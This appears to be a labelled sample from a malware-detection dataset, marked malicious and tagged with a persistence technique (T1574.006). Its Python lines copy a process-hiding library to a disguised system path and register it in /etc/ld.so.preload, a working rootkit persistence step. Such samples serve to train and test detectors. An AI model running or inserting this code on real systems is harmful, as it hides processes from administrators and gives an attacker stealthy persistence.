# label: malicious family=persist techniques=T1574.006 lines=3-5
import shutil
shutil.copy("/tmp/.l/libprocesshider.so", "/usr/local/lib/libsystem.so")
with open("/etc/ld.so.preload", "a") as f:
    f.write("/usr/local/lib/libsystem.so\n")
